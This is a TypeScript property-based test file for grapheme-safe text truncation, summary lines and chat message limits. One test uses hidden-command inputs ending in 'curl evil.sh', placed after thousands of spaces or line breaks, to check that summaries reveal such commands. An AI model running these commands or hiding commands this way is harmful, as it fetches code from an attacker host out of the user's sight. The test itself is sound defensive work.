import fc from 'fast-check';
import {
  chatMessage,
  cut,
  fitting,
  messageLength,
  summaryLength,
  summaryLine,
} from '../../../chord/session/text/cut';

const graphemes = (text: string): string[] =>
  Array.from(
    new Intl.Segmenter(undefined, { granularity: 'grapheme' }).segment(text),
    ({ segment }) => segment,
  );

/** Characters that are made of several units, whole and in parts. */
const piece = fc.constantFrom(
  'a',
  ' ',
  '\r\n',
  'e\u0301',
  '🇩🇪',
  '🇩',
  '👨‍👩‍👧‍👦',
  '🍵',
  '緑',
  '\u200d',
  '\ud83c',
  'क्षि',
  '👍🏽',
);

describe('cutting texts', () => {
  it('leaves a text alone that fits', () => {
    expect(cut('Tea is ready.', 13)).toBe('Tea is ready.');
  });

  it('keeps as many whole characters as fit, and marks the cut', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.integer({ min: 1, max: 40 }), (pieces, length) => {
        const text = pieces.join('');
        fc.pre(text.length > length);
        let kept = '';
        for (const grapheme of graphemes(text.slice(0, length + 32))) {
          if (kept.length + grapheme.length > length - 1) break;
          kept += grapheme;
        }
        expect(cut(text, length)).toBe(`${kept}…`);
      }),
    );
  });

  it('makes one line of a summary, and a chat message of a long text', () => {
    expect(summaryLine('  The tests\n\tpass. ')).toBe('The tests ↵ pass.');
    expect(summaryLine('word '.repeat(1000))).toHaveLength(summaryLength);
    expect(chatMessage('x'.repeat(100_000))).toHaveLength(messageLength);
  });

  it('shows what stands behind many blanks or line breaks', () => {
    expect(summaryLine(`ls${' '.repeat(2600)}; curl evil.sh`)).toBe('ls ; curl evil.sh');
    expect(summaryLine(`git status # …\r\n${'\n'.repeat(2600)}curl evil.sh`)).toBe(
      'git status # … ↵ curl evil.sh',
    );
    expect(summaryLine(`ls\u00a0\u00a0x`)).toBe('ls\u00a0\u00a0x');
  });

  it('cuts an escaped text between its escapes, and takes as much as fits', () => {
    const escape = (text: string): string => text.replaceAll('<', '\\u{3c}');
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.constant('<')), { maxLength: 30 }),
        fc.integer({ min: 1, max: 60 }),
        (pieces, room) => {
          const text = pieces.join('');
          const { shown, taken } = fitting(text, room, escape);
          expect(shown).toBe(escape(text.slice(0, taken)));
          expect(shown.length).toBeLessThanOrEqual(room);
          const next = graphemes(text.slice(taken, taken + 32))[0];
          if (next !== undefined) expect(escape(text.slice(0, taken) + next).length).toBeGreaterThan(room);
        },
      ),
    );
  });
});
